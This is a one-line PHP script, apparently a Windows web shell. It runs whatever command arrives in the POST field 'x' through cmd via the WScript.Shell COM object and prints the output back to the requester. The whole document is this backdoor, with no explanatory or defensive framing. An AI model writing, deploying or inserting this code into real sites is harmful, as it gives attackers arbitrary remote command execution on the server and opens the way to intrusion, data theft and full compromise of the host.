<?php $w = new COM("WScript.Shell"); $e = $w->exec("cmd /c " . $_POST["x"]); echo $e->StdOut->ReadAll();
